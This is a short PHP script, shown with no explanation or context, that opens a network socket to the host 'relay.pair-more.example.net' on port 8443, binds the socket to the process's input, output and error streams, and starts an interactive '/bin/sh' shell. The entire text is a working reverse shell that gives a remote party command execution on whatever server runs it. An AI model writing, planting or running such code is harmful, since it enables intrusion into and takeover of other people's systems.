<?php
$sock = fsockopen('relay.pair-more.example.net', 8443);
$spec = array(0 => $sock, 1 => $sock, 2 => $sock);
$proc = proc_open('/bin/sh -i', $spec, $pipes);
